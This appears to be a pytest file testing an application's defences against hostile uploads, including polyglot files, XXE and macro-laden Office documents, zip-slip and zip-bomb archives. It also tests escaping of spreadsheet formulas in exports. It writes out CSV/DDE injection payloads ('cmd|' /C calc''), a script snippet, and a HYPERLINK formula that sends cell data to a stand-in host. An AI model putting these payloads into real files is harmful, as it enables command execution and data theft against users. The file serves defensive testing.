"""The hostile upload corpus (issue 16 item 3): each file is refused with its name and the rule, in Chinese first, or
stored and served only as a sandboxed attachment; memory stays bounded; exports escape formulas; the same bytes
again are not a new version; every reading of an attachment is audited."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from applications.models import Attachment
from meters import registry
from meters.models import Reading
from storage import contents
from tests import factories
from tests.support import corpus
from tests.support.api import bearer
from tests.support.audit import events_of
from tests.support.pages import log_in
from tests.support.uploads import MB, peak_allocation, post_upload, upload
from workflow.accounts import SYSTEM, Organisation
from workflow.db import db
from workflow.engine import fire

PREFIX = "/api/v1"


def rows_of(app_id: int) -> list[Attachment]:
    with db.transaction() as session:
        return list(session.scalars(select(Attachment).where(Attachment.application_id == app_id)))


def refused(client: Any, cast: Any, data: bytes, filename: str) -> tuple[int, dict[str, Any]]:
    """Upload as the applicant; the problem's one error, after checking nothing was kept and the denial audited."""
    app_id = factories.new_application(cast, attach=False)
    answer = upload(client, bearer(client, cast.applicant), app_id, "other", data, filename)
    assert answer.status_code == 422, answer.get_json()
    [error] = answer.get_json()["errors"]
    assert error["field"] == "file"
    assert rows_of(app_id) == []
    assert [e.trigger for e in events_of(app_id, "denied")] == ["attach"]
    return app_id, error


# --- refused, naming the file and the rule --------------------------------------------------------------------

REFUSED = [
    # (the file, its name, the problem code, words of the rule the message must say)
    pytest.param(corpus.PDF_WITH_HTML, "申报书.pdf", "polyglot", "<html", id="pdf-with-html"),
    pytest.param(corpus.HTML_WITH_PDF, "申报书.pdf", "type_not_allowed", "text/html", id="html-with-pdf"),
    pytest.param(corpus.SVG_WITH_SCRIPT, "logo.svg", "type_not_allowed", "SVG", id="svg-with-script"),
    pytest.param(corpus.JPEG_WITH_PHP, "x.php.jpg", "polyglot", "<?php", id="jpeg-with-php"),
    pytest.param(corpus.PHP_TEXT, "x.php.jpg", "type_not_allowed", "PHP", id="php-named-jpg"),
    pytest.param(corpus.EMPTY, "空.pdf", "type_not_allowed", "文件为空（0 字节", id="empty"),
    pytest.param(corpus.CSV_FORMULA, "设备清单.csv", "csv_formula", "第 1 行第 1 列", id="csv-equals"),
    pytest.param(corpus.CSV_DDE, "设备清单.csv", "csv_formula", "第 2 行第 2 列", id="csv-dde"),
    pytest.param(corpus.DOCX_XXE, "报告.docx", "xml_doctype", "DOCTYPE", id="docx-xxe"),
    pytest.param(corpus.DOCX_XXE_UTF16, "报告.docx", "xml_doctype", "DOCTYPE", id="docx-xxe-utf16"),
    pytest.param(corpus.DOCX_VBA, "报告.docx", "office_macro", "vbaProject.bin", id="docx-vbaproject"),
    pytest.param(corpus.DOCM, "报告.docx", "office_macro", "macroenabled", id="docm"),
    *(pytest.param(corpus.zip_slip(n), "材料.zip", "zip_path", n, id=f"zip-slip-{n}") for n in corpus.ZIP_SLIPS),
    pytest.param(corpus.zip_symlink(), "材料.zip", "zip_path", "符号链接", id="zip-symlink"),
    pytest.param(corpus.BAD_NAME_ZIP, "材料.zip", "zip_name_encoding", "ff fe 80 80", id="zip-name-not-gbk"),
    pytest.param(corpus.overlapping(), "材料.zip", "zip_damaged", "overlap", id="zip-overlapping-entries"),
    pytest.param(corpus.nested(4), "材料.zip", "zip_nested", "嵌套超过 3 层", id="zip-nested-4-deep"),
]


@pytest.mark.parametrize("data,filename,code,rule", REFUSED)
def test_each_hostile_file_is_refused_naming_the_file_and_the_rule(client, cast, data, filename, code, rule):
    _app_id, error = refused(client, cast, data, filename)
    assert error["code"] == code
    assert error["message"].startswith(f"“{filename}”")  # the file, then the rule, in Chinese
    assert rule in error["message"]
    assert any("\u4e00" <= ch <= "\u9fff" for ch in error["message"].replace(filename, ""))


def test_the_rule_is_said_in_english_when_asked(client, cast):
    app_id = factories.new_application(cast, attach=False)
    headers = {**bearer(client, cast.applicant), "Accept-Language": "en"}
    [error] = upload(client, headers, app_id, "other", corpus.DOCX_XXE, "report.docx").get_json()["errors"]
    assert error["message"].startswith("“report.docx” was not accepted:") and "XXE" in error["message"]


# --- bombs: refused from the headers, or at the first byte past what they declare, in bounded memory ------------


@pytest.mark.parametrize(
    "bomb,code",
    [
        pytest.param(lambda: corpus.bomb(1100 * MB), "zip_bomb", id="1.1-GB-declared"),
        pytest.param(lambda: corpus.bomb(64 * MB), "zip_bomb", id="64-MB-at-1000-to-1"),
        pytest.param(lambda: corpus.bomb(64 * MB, declare=MB), "zip_damaged", id="64-MB-declaring-1-MB"),
    ],
)
def test_a_zip_bomb_is_refused_in_bounded_memory(client, cast, bomb, code):
    data = bomb()
    app_id = factories.new_application(cast, attach=False)
    applicant = bearer(client, cast.applicant)
    answer, peak = peak_allocation(lambda: upload(client, applicant, app_id, "other", data, "材料.zip"))
    assert answer.status_code == 422
    [error] = answer.get_json()["errors"]
    assert error["code"] == code and error["message"].startswith("“材料.zip”未接收")
    assert rows_of(app_id) == []
    # The upload's own body (a few MB at most) is counted too; the bomb's 64 MB–2 GB never are.
    assert peak < len(data) * 3 + 8 * MB, f"peak Python allocation {peak / MB:.1f} MB"


def test_a_large_archive_is_checked_in_bounded_memory(client, cast, tmp_path: Path):
    path = tmp_path / "扫描件.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for n in range(4):
            with archive.open(f"扫描件/{n}.pdf", "w") as entry:
                entry.write(b"%PDF-1.7\n")
                for _ in range(10):
                    entry.write(os.urandom(MB))
    app_id = factories.new_application(cast, attach=False)
    with path.open("rb") as fh:
        answer, peak = peak_allocation(
            lambda: client.post(
                f"{PREFIX}/applications/{app_id}/attachments",
                data={"category": "other", "file": (fh, "扫描件.zip")},
                headers=bearer(client, cast.applicant),
            )
        )
    assert answer.status_code == 201, answer.get_json()
    assert answer.get_json()["size"] == path.stat().st_size
    assert peak < 16 * MB, f"peak Python allocation {peak / MB:.1f} MB for a 40 MB archive"


# --- what is kept is served only as a sandboxed attachment ---------------------------------------------------

KEPT = [
    pytest.param(corpus.DOCX, "报告.docx", id="docx"),
    pytest.param(corpus.GBK_ZIP, "材料.zip", id="zip-with-gbk-names"),
    pytest.param(corpus.nested(3), "材料.zip", id="zip-nested-3-deep"),
    pytest.param(corpus.CSV_NUMBERS, "设备清单.csv", id="csv-with-signed-numbers"),
    # Script beyond the first 64 KB is no sniffer's business: kept, and served so that nothing in it runs.
    pytest.param(
        corpus.SAMPLE_PDF + b"%" * (70 * 1024) + b"<script>alert(1)</script>", "报告.pdf", id="pdf-late-script"
    ),
]


@pytest.mark.parametrize("data,filename", KEPT)
def test_what_is_kept_is_served_only_as_a_sandboxed_attachment(client, cast, data, filename):
    app_id = factories.new_application(cast, attach=False)
    applicant = bearer(client, cast.applicant)
    stored = upload(client, applicant, app_id, "other", data, filename)
    assert stored.status_code == 201, stored.get_json()
    download = client.get(stored.headers["Location"], headers=applicant)
    assert download.status_code == 200 and download.data == data
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download.headers["Content-Security-Policy"]
    page = log_in(client.application, cast.applicant).get(f"/attachments/{stored.get_json()['id']}/download")
    assert page.headers["Content-Disposition"].startswith("attachment;")
    assert "sandbox" in page.headers["Content-Security-Policy"] and page.headers["X-Content-Type-Options"] == "nosniff"
    # The reviewer's viewer shows a PDF inline (a browser's PDF viewer refuses a sandboxed page), typed by its
    # bytes, not sniffed, and with no source a script could run from; anything else goes as the download above.
    view = log_in(client.application, cast.applicant).get(f"/attachments/{stored.get_json()['id']}/view")
    if view.status_code == 200:
        assert view.mimetype in ("application/pdf", "image/png", "image/jpeg")
        assert view.headers["X-Content-Type-Options"] == "nosniff"
        assert view.headers["Content-Security-Policy"].startswith("default-src 'none'")
        assert "script-src" not in view.headers["Content-Security-Policy"]
    else:
        assert view.status_code == 303 and view.headers["Location"].endswith("/download")


def test_gbk_names_are_read_as_gbk_not_stored_as_mojibake():
    found = contents.check(io.BytesIO(corpus.GBK_ZIP), contents.sniff.ZIP)
    assert found.names == list(corpus.GBK_NAMES)  # what zipfile alone gives is CP437 mojibake
    assert zipfile.ZipFile(io.BytesIO(corpus.GBK_ZIP)).namelist() != list(corpus.GBK_NAMES)


# --- the same bytes again ------------------------------------------------------------------------------------


def test_identical_reuploads_keep_one_version(app, client, cast):
    app_id = factories.new_application(cast, attach=False)
    applicant = bearer(client, cast.applicant)
    first = upload(client, applicant, app_id, "equipment_list", corpus.SAMPLE_PDF, "设备清单.pdf")
    again = upload(client, applicant, app_id, "equipment_list", corpus.SAMPLE_PDF, "设备清单（再传）.pdf")
    assert (first.status_code, again.status_code) == (201, 200)
    assert again.get_json() == first.get_json()  # the same row, version 1, its first name
    assert [(r.version, r.current) for r in rows_of(app_id)] == [(1, True)]
    assert len(events_of(app_id, "attached")) == 1
    changed = upload(client, applicant, app_id, "equipment_list", corpus.SAMPLE_PDF + b"%v2\n", "设备清单.pdf")
    back = upload(client, applicant, app_id, "equipment_list", corpus.SAMPLE_PDF, "设备清单.pdf")
    assert (changed.get_json()["version"], back.get_json()["version"]) == (2, 3)  # going back is a change
    page = post_upload(log_in(app, cast.applicant), app_id, "equipment_list", corpus.SAMPLE_PDF)
    assert page.status_code == 303  # the page says "nothing changed" (flash) and keeps version 3 current
    again_json = post_upload(
        log_in(app, cast.applicant), app_id, "equipment_list", corpus.SAMPLE_PDF, headers={"Accept": "application/json"}
    )
    assert (again_json.status_code, again_json.get_json()["version"]) == (200, 3)
    assert sorted(r.version for r in rows_of(app_id)) == [1, 2, 3]


# --- every reading audited -----------------------------------------------------------------------------------


def test_each_download_and_view_is_audited(app, client, cast):
    app_id = factories.new_application(cast)
    fire(app_id, "submit", cast.applicant)
    [row, *_] = rows_of(app_id)
    before = len(events_of(app_id, "attachment_read"))
    assert before == 0
    assert (
        client.get(f"{PREFIX}/attachments/{row.id}/download", headers=bearer(client, cast.applicant)).status_code == 200
    )
    reviewer = log_in(app, cast.district_reviewer)
    assert reviewer.get(f"/attachments/{row.id}/download").status_code == 200
    assert reviewer.get(f"/attachments/{row.id}/view").status_code == 200
    read = events_of(app_id, "attachment_read")
    assert [(e.actor_id, e.payload["how"], e.payload["attachment_id"]) for e in read] == [
        (cast.applicant.id, "download", row.id),
        (cast.district_reviewer.id, "download", row.id),
        (cast.district_reviewer.id, "view", row.id),
    ]
    assert all(e.payload["sha256"] == row.sha256 for e in read)
    # Someone who may not see it gets the 404 of a missing id, and nothing is read.
    assert log_in(app, cast.other_district_reviewer).get(f"/attachments/{row.id}/download").status_code == 404
    assert len(events_of(app_id, "attachment_read")) == 3


# --- exports escape formulas ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_unit_named_like_a_formula_is_exported_as_words(app, cast, name):
    app_id = factories.new_application(cast, project_name=name)
    fire(app_id, "submit", cast.applicant)
    with db.transaction() as session:
        session.execute(update(Organisation).where(Organisation.id == cast.org.id).values(name=name))
    for who, url in ((cast.applicant, "/applications.xlsx"), (cast.district_reviewer, "/desk.xlsx")):
        answer = log_in(app, who).get(url)
        assert answer.status_code == 200
        book = load_workbook(io.BytesIO(answer.data))
        cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells), url
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert "'" + name in texts, (url, texts)  # the unit as words (a leading apostrophe)
        assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts), (url, texts)


# --- the meter readings CSV: a formula never lands -------------------------------------------------------------


METERS = (
    "point_code,tier,energy_type,unit,interval_minutes,cumulative,parent,accuracy_class,calibration_due\n"
    "E-1,1,electricity,kWh,15,true,,0.5S,\n"
)


def test_a_readings_csv_with_formulas_lands_only_its_plain_rows(app, cast):
    rows, _ = registry.read_registry(io.StringIO(METERS))
    with db.transaction() as session:
        registry.register(session, SYSTEM, session.get(Organisation, cast.org.id), rows)  # type: ignore[arg-type]
    browser = log_in(app, cast.applicant)

    def send(body: str) -> Any:
        return browser.post(
            "/meters/readings",
            data={"file": (io.BytesIO(body.encode()), "readings.csv")},
            content_type="multipart/form-data",
            headers={"Accept": "application/json"},
        )

    assert send('=HYPERLINK("http://x.example"),timestamp,value\nE-1,2026-03-01T00:00,1\n').status_code == 422
    plain_and_formulas = (
        "point_code,timestamp,value\n"
        "=cmd|' /C calc'!A0,2026-03-01T00:00,1\n"
        "E-1,2026-03-01T00:15,=1+1\n"
        "E-1,2026-03-01T00:30,@SUM(1)\n"
        "E-1,2026-03-01T00:45,5\n"
    )
    assert send(plain_and_formulas).status_code == 200
    with db.transaction() as session:
        assert [r.value for r in session.scalars(select(Reading))] == [5]  # values are numbers or refused
